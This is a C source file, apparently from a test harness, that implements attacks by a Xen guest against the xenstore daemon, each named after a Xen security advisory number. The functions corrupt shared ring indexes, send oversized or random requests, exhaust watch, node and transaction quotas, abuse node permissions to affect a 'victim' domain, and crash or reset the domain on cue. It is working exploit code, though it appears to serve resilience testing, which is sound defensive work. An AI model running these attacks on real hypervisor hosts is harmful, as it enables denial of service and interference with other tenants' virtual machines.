/* The attacks, by the number of the Xen security advisory that each became known with. */
#include "attacker.h"

#include <xen/sched.h>

/* Requests that are sent in a row before the first reply is read; they and their replies fit. */
#define AT_ONCE 16
#define LONG_MAX 4096
#define DEEP 700

static char long_text[LONG_MAX + 64];

static unsigned append_long(unsigned at, const char *text) {
  for (; *text != 0; text++) long_text[at++] = *text == '|' ? 0 : *text;
  return at;
}

/*
 * Makes a request in `long_text`: `start`, as many times `fill` as make `length` bytes, and `end`.
 * Every `|` becomes a NUL. Returns the whole length.
 */
static unsigned long_request(const char *start, char fill, unsigned length, const char *end) {
  unsigned at = append_long(0, start);
  while (at < length) long_text[at++] = fill;
  return append_long(at, end);
}

/* Waits until somebody in dom0 writes data/go, so that what ends this domain happens on request. */
static void wait_for_go(void) {
  static struct message message;
  ask(XS_WATCH, 0, "data/go|go|");
  while (!strings_equal(ask(XS_READ, 0, "data/go|"), "now"))
    do receive(&message);
    while (message.header.type != XS_WATCH_EVENT);
}

static unsigned random_number(void) {
  static unsigned state = 1;
  state ^= state << 13;
  state ^= state >> 17;
  return state ^= state << 5;
}

/* ---- not attacks: what the latency beside them is to be compared with ---- */

static void spin(void) { yield(); }

static void read_own(void) {
  for (unsigned count = 0; count < AT_ONCE; count++) send(XS_READ, 0, "name|");
  receive_replies(AT_ONCE);
}

/* ---- the ring itself ---- */

static void wait_for_refusal(void) {
  while (ring->error == 0) yield();
  say("error %d\n", ring->error);
}

static void bad_index(void) {
  ring->req_prod = ring->req_cons + XENSTORE_RING_SIZE + 1;
  notify(ring_port);
  wait_for_refusal();
}

static void bad_reply_index(void) {
  ring->rsp_cons = ring->rsp_prod + 1;
  send(XS_READ, 0, "name|");
  wait_for_refusal();
}

static void scribble_indexes(void) {
  ring->req_prod = random_number();
  ring->rsp_cons = random_number();
  notify(ring_port);
  yield();
}

static void giant_length(void) {
  struct xsd_sockmsg header = {.type = XS_READ, .len = 0x7fffffff};
  put(&header, sizeof header);
  wait_for_refusal();
}

static void random_bytes(void) {
  for (unsigned at = 0; at < XENSTORE_RING_SIZE; at++) ring->req[at] = (char)random_number();
  ring->req_prod += XENSTORE_RING_SIZE / 2;
  notify(ring_port);
  yield();
}

static void ring_the_bell(void) { notify(ring_port); }

static void die(void) {
  wait_for_go();
  shut_down(SHUTDOWN_crash);
}

/* Misbehaves first, so that it is not listened to when it dies. */
static void die_ignored(void) {
  wait_for_go();
  bad_index();
  shut_down(SHUTDOWN_crash);
}

static void reset_softly(void) {
  wait_for_go();
  shut_down(SHUTDOWN_soft_reset);
}

/* ---- replies and events ---- */

/* dom0 has made /large: the quota on the size of a node keeps a guest from making one. */
static void list_large_directory_told(void) {
  say("list %s\n", ask(XS_DIRECTORY, 0, "/large|"));
}

static void list_large_directory(void) {
  send(XS_DIRECTORY, 0, "/large|");
  send(XS_DIRECTORY_PART, 0, "/large|0|");
  receive_replies(2);
}

static void watch_root(void) {
  say("watch %s\n", ask(XS_WATCH, 0, "/|t|"));
  ask(XS_READ, 0, "name|");
  say("first event %s\n", last_event);
}

static void tell_events(void) {
  unsigned before = events_heard;
  ask(XS_READ, 0, "name|");
  if (events_heard != before) say("heard %s\n", last_event);
}

static void long_relative_paths(void) {
  say("2048 bytes: %s\n", ask_bytes(XS_MKDIR, 0, long_text, long_request("data/", 'l', 2048, "|")));
  say("2049 bytes: %s\n", ask_bytes(XS_MKDIR, 0, long_text, long_request("data/", 'l', 2049, "|")));
  say("3072 bytes: %s\n", ask_bytes(XS_READ, 0, long_text, long_request("data/", 'l', 3072, "|")));
}

static void long_relative_path(void) {
  ask_bytes(XS_WATCH, 0, long_text, long_request("data/", 'l', 2048 + random_number() % 1024, "|t|"));
}

static void huge_token(void) {
  say("watch %s\n", ask_bytes(XS_WATCH, 0, long_text, long_request("data/t|", 't', 4092, "|")));
  ask(XS_WRITE, 0, "data/t/longer|x");
  ask(XS_READ, 0, "name|");
  say("events %d\n", events_heard);
}

static void write_watched(void) {
  for (unsigned count = 0; count < AT_ONCE; count++) send(XS_WRITE, 0, "data/t/longer|x");
  receive_replies(AT_ONCE);
}

static void set_many_watches(void) {
  const char *reply = "";
  unsigned watches = 0;
  while (is_ok(reply = ask(XS_WATCH, 0, "data/f|%d|", watches))) watches++;
  say("watches %d, then %s\n", watches, reply);
}

/* Each write makes as many events as there are watches. */
static void write_to_many_watches(void) {
  send(XS_WRITE, 0, "data/f|x");
  receive_replies(1);
}

static void write_to_many_watches_deaf(void) {
  static const char body[] = "data/f\0x";
  while (send_if_room(XS_WRITE, 0, body, sizeof body - 1));
  notify(ring_port);
  yield();
}

static void write_large_value(void) {
  say("write %s\n", ask_bytes(XS_WRITE, 0, long_text, long_request("data/v|", 'v', 1900, "")));
}

static void read_large_value_deaf(void) {
  static const char body[] = "data/v";
  while (send_if_room(XS_READ, 0, body, sizeof body));
  notify(ring_port);
  yield();
}

static void watch_and_reset(void) {
  for (unsigned count = 0; count < AT_ONCE / 2; count++) {
    send(XS_WATCH, 0, "data/w|t|");
    send(XS_RESET_WATCHES, 0, "|");
  }
  receive_replies(AT_ONCE);
}

/* ---- nodes and their owners ---- */

static void create_all_nodes(void) {
  const char *reply = "";
  unsigned chains = 0;
  while (is_ok(reply = ask(XS_MKDIR, 0, "data/n/%d/a/b/c/d/e/f/g/h|", chains))) chains++;
  say("chain %d: %s\n", chains, reply);
  while (is_ok(reply = ask(XS_MKDIR, 0, "data/n/one-%d|", chains))) chains++;
  say("single: %s\n", reply);
}

static void remove_and_create(void) {
  send(XS_RM, 0, "data/n/0|");
  send(XS_MKDIR, 0, "data/n/0/a/b/c/d/e/f/g/h|");
  receive_replies(2);
}

static void write_for_victim(void) {
  say("write %s\n", ask(XS_WRITE, 0, "data/x|0"));
  char domid[8];
  const char *own = ask(XS_READ, 0, "domid|");
  memcpy(domid, own, sizeof domid - 1);
  domid[sizeof domid - 1] = 0;
  say("permissions %s\n", ask(XS_SET_PERMS, 0, "data/x|n%s|r%s|", domid, option("victim")));
}

static void write_all_the_time(void) {
  for (unsigned count = 0; count < AT_ONCE; count++) send(XS_WRITE, 0, "data/x|%d", random_number());
  receive_replies(AT_ONCE);
}

static void give_away(void) {
  say("write %s\n", ask(XS_WRITE, 0, "data/x|y"));
  say("to the victim: %s\n", ask(XS_SET_PERMS, 0, "data/x|n%s|", option("victim")));
  say("to dom0: %s\n", ask(XS_SET_PERMS, 0, "data/x|n0|b%s|", option("victim")));
  say("permissions %s\n", ask(XS_GET_PERMS, 0, "data/x|"));
}

static void give_away_again(void) {
  for (unsigned count = 0; count < AT_ONCE; count++)
    send(XS_SET_PERMS, 0, "data/x|n%s|", option("victim"));
  receive_replies(AT_ONCE);
}

static void root_requests(void) {
  say("permissions %s\n", ask(XS_SET_PERMS, 0, "/|n%s|", option("victim")));
  say("remove %s\n", ask(XS_RM, 0, "/|"));
  ask(XS_DIRECTORY, 0, "/|");
}

static void root_requests_again(void) {
  send(XS_SET_PERMS, 0, "/|b0|");
  send(XS_RM, 0, "/|");
  send(XS_DIRECTORY, 0, "/|");
  receive_replies(3);
}

static void home_with_slash(void) {
  say("read %s\n", ask(XS_READ, 0, "/local/domain/|"));
  say("make %s\n", ask(XS_MKDIR, 0, "/local/domain/|"));
  say("remove %s\n", ask(XS_RM, 0, "/local/domain/|"));
  say("watch %s\n", ask(XS_WATCH, 0, "/local/domain/|t|"));
}

static void home_with_slash_again(void) {
  for (unsigned count = 0; count < AT_ONCE; count++) send(XS_READ, 0, "/local/domain/|");
  receive_replies(AT_ONCE);
}

static const char *make_deep(void) {
  unsigned at = append_long(0, "data/deep");
  for (unsigned level = 0; level < DEEP; level++) long_text[at++] = '/', long_text[at++] = 'd';
  long_text[at++] = 0;
  return ask_bytes(XS_MKDIR, 0, long_text, at);
}

static void deep_tree(void) {
  say("make %s\n", make_deep());
  say("remove %s\n", ask(XS_RM, 0, "data/deep|"));
}

static void deep_tree_again(void) {
  make_deep();
  ask(XS_RM, 0, "data/deep|");
}

/* Leaves nodes and watches where dom0 lets everybody write, and comes back as another domain. */
static void leave_nodes(void) {
  const char *reply = "";
  for (unsigned node = 0; node < 50; node++) reply = ask(XS_WRITE, 0, "/public/%d/x|y", node);
  say("left %s\n", reply);
  ask(XS_WATCH, 0, "/public|t|");
}

static void reboot_on_request(void) {
  wait_for_go();
  shut_down(SHUTDOWN_reboot);
}

/* ---- transactions ---- */

static void create_and_remove(void) {
  uint32_t transaction = start_transaction();
  send(XS_MKDIR, transaction, "data/a/b/c|");
  send(XS_RM, transaction, "data/a|");
  send(XS_WRITE, transaction, "data/d|x");
  receive_replies(3);
  end_transaction(transaction, 1);
}

static void fail_to_create(void) {
  say("create and remove: %s\n", (create_and_remove(), ask(XS_DIRECTORY, 0, "data|")));
  uint32_t transaction = start_transaction();
  unsigned length = long_request("data/e/f|", 'x', 2100, "");
  say("too large: %s\n", ask_bytes(XS_WRITE, transaction, long_text, length));
  say("commit %s\n", end_transaction(transaction, 1));
}

static void remove_twice(void) {
  ask(XS_MKDIR, 0, "data/a/b|");
  uint32_t first = start_transaction(), second = start_transaction();
  ask(XS_RM, first, "data/a|");
  ask(XS_RM, second, "data/a|");
  end_transaction(first, 1);
  end_transaction(second, 1);
}

static void remove_twice_told(void) {
  remove_twice();
  say("left %s\n", ask(XS_READ, 0, "data/a|"));
}

static void reset_inside(void) {
  uint32_t transaction = start_transaction();
  send(XS_WRITE, transaction, "data/x|y");
  send(XS_RESET_WATCHES, transaction, "|");
  receive_replies(2);
  end_transaction(transaction, 1);
}

static void reset_inside_told(void) {
  uint32_t transaction = start_transaction();
  say("reset %s\n", ask(XS_RESET_WATCHES, transaction, "|"));
  say("commit %s\n", end_transaction(transaction, 1));
}

/* Fills one transaction with as many nodes as it may touch, and leaves it open. */
static void open_large_transaction(void) {
  uint32_t transaction = start_transaction();
  if (transaction == 0) {
    yield();
    return;
  }
  for (unsigned node = 0; node < 1100; node += AT_ONCE) {
    for (unsigned one = 0; one < AT_ONCE; one++)
      send(XS_READ, transaction, "data/none-%d|", node + one);
    receive_replies(AT_ONCE);
  }
}

static void touch_too_many(void) {
  uint32_t transaction = start_transaction();
  const char *reply = "";
  for (unsigned node = 0; node < 1100; node++)
    reply = ask(XS_READ, transaction, "data/none-%d|", node);
  say("the last read: %s\n", reply);
  say("commit %s\n", end_transaction(transaction, 1));
}

/* A large transaction that a write of our own disturbs, so that all of it must be looked at again. */
static void commit_large(void) {
  uint32_t transaction = start_transaction();
  for (unsigned node = 0; node < 900; node += AT_ONCE) {
    for (unsigned one = 0; one < AT_ONCE; one++) send(XS_READ, transaction, "data/n-%d|", node + one);
    receive_replies(AT_ONCE);
  }
  send(XS_WRITE, transaction, "data/y|y");
  send(XS_WRITE, 0, "data/z|z");
  receive_replies(2);
  end_transaction(transaction, 1);
}

const struct attack attacks[] = {
    {"none", 0, 0},
    {"spin", 0, spin},
    {"reads", 0, read_own},
    {"38-requests", bad_index, scribble_indexes},
    {"38-replies", bad_reply_index, scribble_indexes},
    {"38-random", 0, random_bytes},
    {"events", 0, ring_the_bell},
    {"72", list_large_directory_told, list_large_directory},
    {"115", watch_root, tell_events},
    {"206", write_for_victim, write_all_the_time},
    {"233", 0, die},
    {"272", create_all_nodes, remove_and_create},
    {"323", long_relative_paths, long_relative_path},
    {"324", huge_token, write_watched},
    {"325", 0, die_ignored},
    {"326-events", set_many_watches, write_to_many_watches_deaf},
    {"326-transactions", touch_too_many, open_large_transaction},
    {"326-fan-out", set_many_watches, write_to_many_watches},
    {"326-commits", 0, commit_large},
    {"330", 0, watch_and_reset},
    {"352", give_away, give_away_again},
    {"353", root_requests, root_requests_again},
    {"414-415-421", fail_to_create, create_and_remove},
    {"416", write_large_value, read_large_value_deaf},
    {"418", deep_tree, deep_tree_again},
    {"322-417-419-483", leave_nodes, reboot_on_request},
    {"420", giant_length, ring_the_bell},
    {"425", 0, reset_softly},
    {"440", remove_twice_told, remove_twice},
    {"481", home_with_slash, home_with_slash_again},
    {"484", reset_inside_told, reset_inside},
};
const unsigned attack_count = sizeof attacks / sizeof attacks[0];
